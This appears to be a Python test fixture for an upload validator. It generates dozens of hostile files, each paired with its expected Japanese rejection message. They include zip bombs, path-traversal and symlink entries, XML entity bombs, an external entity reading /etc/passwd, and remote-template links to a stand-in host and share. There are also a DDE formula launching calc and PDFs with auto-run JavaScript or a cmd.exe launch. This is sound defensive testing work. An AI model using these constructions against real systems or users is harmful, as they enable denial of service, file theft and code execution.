"""Files that attack whoever opens them, made on the spot: none of them lies in the project.

Each has the name under which it comes, what it holds, and a piece of what the person is told.
"""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

import docx
import xlsxwriter
from PIL import Image


@dataclass(frozen=True)
class Hostile:
    """One file."""

    title: str
    name: str
    make: Callable[[], bytes]
    told: str


def zipped(parts: dict[str, bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, part in parts.items():
            archive.writestr(zipfile.ZipInfo(name) if packing == zipfile.ZIP_STORED else name, part)
    return out.getvalue()


def changed(content: bytes, parts: dict[str, bytes]) -> bytes:
    """An archive with parts added or replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return zipped({name: archive.read(name) for name in archive.namelist()} | parts)


@cache
def word() -> bytes:
    out, document = io.BytesIO(), docx.Document()
    document.add_paragraph("見本の文書です。")
    document.save(out)
    return out.getvalue()


@cache
def excel() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet("見本").write_row(0, 0, ["番号", "名称", "所管コード"])
    return out.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (4, 4)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def pdf(extra: bytes = b"", end: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog"
        + extra
        + b">>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
        + end
    )


def packed_pdf() -> bytes:
    """The script lies in an object stream, where a search of the plain text does not see it."""
    hidden = zlib.compress(b"2 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    return pdf(
        end=b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\n"
    )


def decoyed_pdf() -> bytes:
    """The word that begins a stream stands in a text before it, too."""
    return packed_pdf().replace(b"/N 1", b"/N 1/Title(stream\nx)")


def macro_sheet() -> bytes:
    """The list of sheets of an old workbook names one of Excel 4.0 macros."""
    return compound("Workbook") + b"\x85\x00\x0e\x00" + bytes(4) + b"\x01\x01\x06\x00Macro1"


def nested(depth: int) -> bytes:
    content = b"x"
    for _ in range(depth):
        content = zipped({"inner.zip": content})
    return content


def nested_bomb() -> bytes:
    """Each level unpacks to little; all of them together to more than a machine has."""
    once = zipped({f"{n}.txt": bytes(4_900_000) for n in range(10)})
    return zipped({f"{n}.zip": once for n in range(10)}, packing=zipfile.ZIP_STORED)


def overlapping() -> bytes:
    """Many entries of the directory share one packed body (the construction of Fifield, 2019)."""
    content = bytearray(zipped({"a.txt": bytes(4_000_000)}))
    at = content.find(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    entry, tail = bytes(content[at:end]), bytearray(content[end:])
    entries = [entry.replace(b"a.txt", b"%05d" % n) for n in range(90)]
    struct.pack_into("<HHI", tail, 8, len(entries), len(entries), sum(map(len, entries)))
    return bytes(content[:at]) + b"".join(entries) + bytes(tail)


def lying_crc() -> bytes:
    content = bytearray(zipped({"a.txt": b"x" * 50}, packing=zipfile.ZIP_STORED))
    content[content.find(b"xxx")] = ord("y")
    return bytes(content)


def locked() -> bytes:
    content = bytearray(zipped({"a.txt": b"x"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(mark) + offset] |= 1
    return bytes(content)


def linked() -> bytes:
    out, entry = io.BytesIO(), zipfile.ZipInfo("readme.txt")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def named(name: str) -> bytes:
    """A zip whose entry bears this very name, also where zipfile would tidy it."""
    placeholder = "x" * len(name.encode())
    return zipped({placeholder: b"y"}).replace(placeholder.encode(), name.encode())


def compound(word_inside: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + word_inside.encode("utf-16-le") + bytes(512)


def enormous_picture() -> bytes:
    """A picture of 60,000 × 60,000 pixels in a few bytes."""
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in chunks
    )


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]><w:document
 xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/>&z;</w:document>""" % b"".join(
    b'<!ENTITY %c "%s">' % (ord("a") + n, b"&%c;" % (ord("a") + n - 1) * 10) for n in range(1, 26)
)
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>'
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)
TEMPLATE = "word/_rels/settings.xml.rels"
OLE = "Ole10Native".encode("utf-16-le")
LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(60)
EXE = b"MZ\x90\x00\x03" + bytes(200)
GIF_SCRIPT = b"GIF89a/*\x00\x00\x00\x00\x00*/=1;alert(1);//" + bytes(20)

ATTACHED = [
    Hostile("zip bomb", "資料.zip", lambda: zipped({"a.bin": bytes(30_000_000)}), "異常に圧縮"),
    Hostile("zip bomb in levels", "資料.zip", nested_bomb, "大きくなりすぎる"),
    Hostile("zips in zips without end", "資料.zip", lambda: nested(12), "段を超えています"),
    Hostile("shared bodies", "資料.zip", overlapping, "壊れて"),
    Hostile(
        "thousands of entries", "資料.zip", lambda: zipped({f"{n}": b"" for n in range(5_100)}), "個までです"
    ),
    Hostile("wrong check sum", "資料.zip", lying_crc, "壊れて"),
    Hostile("cut off", "資料.zip", lambda: zipped({"a.txt": b"x" * 500})[:-40], "壊れて"),
    Hostile("locked zip", "資料.zip", locked, "パスワード"),
    Hostile("locked office", "資料.docx", lambda: compound("EncryptedPackage"), "パスワード"),
    Hostile("link in a zip", "資料.zip", linked, "リンク"),
    Hostile("way up", "資料.zip", lambda: named("../../etc/cron.d/x"), "外のフォルダ"),
    Hostile("absolute way", "資料.zip", lambda: named("/etc/passwd"), "外のフォルダ"),
    Hostile("drive letter", "資料.zip", lambda: named("C:\\windows\\x.txt"), "外のフォルダ"),
    Hostile("way up with backslashes", "資料.zip", lambda: named("..\\..\\x.txt"), "外のフォルダ"),
    Hostile("name turned round", "資料.zip", lambda: named("案\u202etxt.exe"), "見えない文字"),
    Hostile("NUL in a name", "資料.zip", lambda: named("a.txt\x00.exe"), "見えない文字"),
    Hostile("program in a zip", "資料.zip", lambda: zipped({"請求書.pdf.exe": b"x"}), "実行できる"),
    Hostile("renamed program in a zip", "資料.zip", lambda: zipped({"請求書.pdf": EXE}), "実行できる"),
    Hostile(
        "macros in a zip",
        "資料.zip",
        lambda: zipped({"a.docx": changed(word(), {"word/vbaProject.bin": b"x"})}),
        "マクロ",
    ),
    Hostile("entities in docx", "要綱.docx", lambda: changed(word(), {"word/document.xml": LAUGHS}), "実体"),
    Hostile(
        "entities in xlsx", "一覧.xlsx", lambda: changed(excel(), {"xl/sharedStrings.xml": LAUGHS}), "実体"
    ),
    Hostile("outside entity", "要綱.docx", lambda: changed(word(), {"word/comments.xml": ENTITY}), "実体"),
    Hostile(
        "template from the net",
        "要綱.docx",
        lambda: changed(word(), {TEMPLATE: RELATIONS % b"https://example.test/t.dotm"}),
        "取り込む参照",
    ),
    Hostile(
        "template from a share",
        "要綱.docx",
        lambda: changed(word(), {TEMPLATE: RELATIONS % b"\\\\192.0.2.1\\t.dotm"}),
        "取り込む参照",
    ),
    Hostile("macro suffix", "要綱.docm", word, "マクロ"),
    Hostile("macro suffix of Excel", "一覧.xlsm", excel, "マクロ"),
    Hostile("macros renamed", "一覧.xlsx", lambda: changed(excel(), {"xl/vbaProject.bin": b"x"}), "マクロ"),
    Hostile("macros in old Word", "要綱.doc", lambda: compound("_VBA_PROJECT"), "マクロ"),
    Hostile(
        "control", "要綱.docx", lambda: changed(word(), {"word/activeX/activeX1.xml": b"<x/>"}), "ActiveX"
    ),
    Hostile(
        "packed program",
        "要綱.docx",
        lambda: changed(word(), {"word/embeddings/oleObject1.bin": bytes(999) + OLE + EXE}),
        "埋め込まれて",
    ),
    Hostile("sheet of macros in old Excel", "一覧.xls", macro_sheet, "マクロ"),
    Hostile(
        "template from the net, in capitals",
        "要綱.docx",
        lambda: changed(word(), {TEMPLATE.upper(): RELATIONS % b"https://example.test/t.dotm"}),
        "取り込む参照",
    ),
    Hostile(
        "entities in a part in capitals",
        "要綱.docx",
        lambda: changed(word(), {"word/COMMENTS.XML": LAUGHS}),
        "実体",
    ),
    Hostile("packed program in old Excel", "一覧.xls", lambda: compound("Ole10Native"), "埋め込まれて"),
    Hostile(
        "PDF with a script",
        "要綱.pdf",
        lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "開くと動く",
    ),
    Hostile(
        "PDF with a spelled-out script",
        "要綱.pdf",
        lambda: pdf(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"),
        "開くと動く",
    ),
    Hostile("PDF with a packed script", "要綱.pdf", packed_pdf, "開くと動く"),
    Hostile("PDF with a script behind a decoy", "要綱.pdf", decoyed_pdf, "開くと動く"),
    Hostile(
        "PDF of nothing but parts",
        "要綱.pdf",
        lambda: pdf(end=b"/Type/ObjStm stream\n" * 200_001),
        "部品が多すぎ",
    ),
    Hostile(
        "PDF that starts a program",
        "要綱.pdf",
        lambda: pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "開くと動く",
    ),
    Hostile("PDF and page", "要綱.pdf", lambda: pdf(end=b"<html><script>alert(1)</script>"), "2つの形式"),
    Hostile("PDF and zip", "要綱.pdf", lambda: pdf(end=zipped({"a.txt": b"x"})), "2つの形式"),
    Hostile("GIF and script", "図.gif", lambda: GIF_SCRIPT, "画像が壊れて"),
    Hostile("picture and page", "図.png", lambda: picture() + b"<script>alert(1)</script>", "2つの形式"),
    Hostile("enormous picture", "図.png", enormous_picture, "画素までに"),
    Hostile("broken picture", "図.png", lambda: picture()[:40], "画像が壊れて"),
    Hostile(
        "page in the guise of a picture",
        "図.png",
        lambda: b"<html><script>alert(1)</script>",
        "中身は別の形式",
    ),
    Hostile("page", "案内.html", lambda: b"<script>alert(1)</script>", "受け取れません"),
    Hostile("drawing with a script", "図.svg", lambda: b"<svg onload='alert(1)'/>", "受け取れません"),
    Hostile("shortcut", "要綱.lnk", lambda: LNK, "受け取れません"),
    Hostile("shortcut renamed", "要綱.pdf", lambda: LNK, "中身は別の形式"),
    Hostile("program", "更新.exe", lambda: EXE, "受け取れません"),
    Hostile("program renamed", "一覧.csv", lambda: EXE, "中身は別の形式"),
    Hostile("two suffixes", "請求書.pdf.exe", lambda: EXE, "受け取れません"),
    Hostile("another kind than its name", "要綱.docx", pdf, "中身は .pdf"),
    Hostile("nothing", "要綱.pdf", lambda: b"", "空です"),
    Hostile("table with NUL", "一覧.csv", lambda: b"a,b\x00\r\n", "中身は別の形式"),
    Hostile(
        "table in an odd encoding",
        "一覧.csv",
        lambda: b"\x81 \x81,\x81 \x81",
        "中身は別の形式",
    ),
]


def imported() -> Iterator[Hostile]:
    """What is tried at the door of tables; broken and enormous workbooks stand in the exchange's own tests."""
    yield Hostile("10,000 columns", "表.xlsx", lambda: wide(10_000), "列が500を超えています")
    yield Hostile("a cell in the last row", "表.xlsx", lambda: far("A1048576"), "行が多すぎます")
    yield Hostile("formula", "表.xlsx", formula, "数式が入っています")
    yield Hostile("10,000 columns of text", "表.csv", lambda: b"," * 10_000, "列が500を超えています")
    yield Hostile("a million lines", "表.csv", lambda: b"1\r\n" * 1_048_576, "行が多すぎます")
    yield Hostile("nothing but line ends", "表.csv", lambda: b"\n" * 5_000_000, "行が多すぎます")
    yield Hostile("one text in every cell", "表.xlsx", repeated, "同じ長い文章")
    yield Hostile(
        "a row with an enormous number",
        "表.xlsx",
        lambda: sheet_with(b'<row r="' + b"9" * 5_000 + b'"><c><v>1</v></c></row>'),
        "行が多すぎます",
    )
    yield Hostile("NUL", "表.csv", lambda: b"a,b\x00", "CSVではない")
    yield Hostile("bomb", "表.xlsx", lambda: changed(excel(), {"xl/media/a.bin": bytes(30_000_000)}), "圧縮")
    yield Hostile("entities", "表.xlsx", lambda: changed(excel(), {"xl/sharedStrings.xml": LAUGHS}), "壊れて")
    yield Hostile("outside entity", "表.xlsx", lambda: changed(excel(), {"xl/styles.xml": ENTITY}), "壊れて")
    yield Hostile("macros", "表.xlsx", lambda: changed(excel(), {"xl/vbaProject.bin": b"x"}), "マクロ")
    yield Hostile("macro suffix", "表.xlsm", excel, "マクロ")
    yield Hostile(
        "link to a file",
        "表.xlsx",
        lambda: changed(excel(), {"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        "リンク",
    )
    yield Hostile("locked", "表.xlsx", lambda: compound("EncryptedPackage"), "パスワード")
    yield Hostile("page in disguise", "表.xls", lambda: b"<html><table>", "中身がExcelブックではありません")
    yield Hostile("program in disguise", "表.xlsx", lambda: EXE, "中身がExcelブックではありません")
    yield Hostile("cut off", "表.xlsx", lambda: excel()[:-300], "壊れて")
    yield Hostile("shared bodies", "表.xlsx", overlapping, "")


def sheet_with(row: bytes) -> bytes:
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(excel())) as archive:
        old = archive.read(name)
    return changed(excel(), {name: old.replace(b"</sheetData>", row + b"</sheetData>")})


def far(reference: str) -> bytes:
    return sheet_with(b'<row r="1048576"><c r="%s"><v>1</v></c></row>' % reference.encode())


def repeated() -> bytes:
    """A text of 30,000 letters, kept once and shown in 5,000 cells under numbers spelled in several ways."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>%s0</v></c></row>'
        % (row, row, b"+" if row % 2 else b"000000000000")
        for row in range(2, 5_002)
    )
    texts = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si></sst>'
    with zipfile.ZipFile(io.BytesIO(sheet_with(rows))) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    return zipped(content | {"xl/sharedStrings.xml": texts % (b"x" * 30_000)})


def wide(columns: int) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet("見本").write_row(0, 0, [f"列{n}" for n in range(columns)])
    return out.getvalue()


def formula() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("見本")
        sheet.write_row(0, 0, ["番号", "名称", "所管コード"])
        sheet.write_formula(1, 1, '=cmd|" /C calc"!A0', None, "")
    return out.getvalue()


def good() -> dict[str, bytes]:
    """Files of every usual kind, which must go on coming in."""
    table = "番号,名称\r\n0099,見本システム①\r\n"
    return {
        "要綱.docx": word(),
        "一覧.xlsx": excel(),
        "要綱.pdf": pdf(),
        "写真の入った要綱.pdf": pdf(end=b"9 0 obj\n<</Length 5>>\nstream\n\xff/JS\xfe\nendstream\nendobj\n"),
        "図.png": picture(),
        "写真.jpg": picture("JPEG"),
        "図.gif": picture("GIF"),
        "資料.zip": zipped(
            {
                "様式/要綱.docx": word(),
                "中.zip": zipped({"図.png": picture()}),
                "表.csv": table.encode("cp932"),
            }
        ),
        "表（Shift_JIS）.csv": table.encode("cp932"),
        "表（UTF-8）.csv": table.encode("utf-8-sig"),
        "自分のひな形.docx": changed(word(), {TEMPLATE: RELATIONS % b"file:///C:\\Users\\x\\Normal.dotm"}),
    }
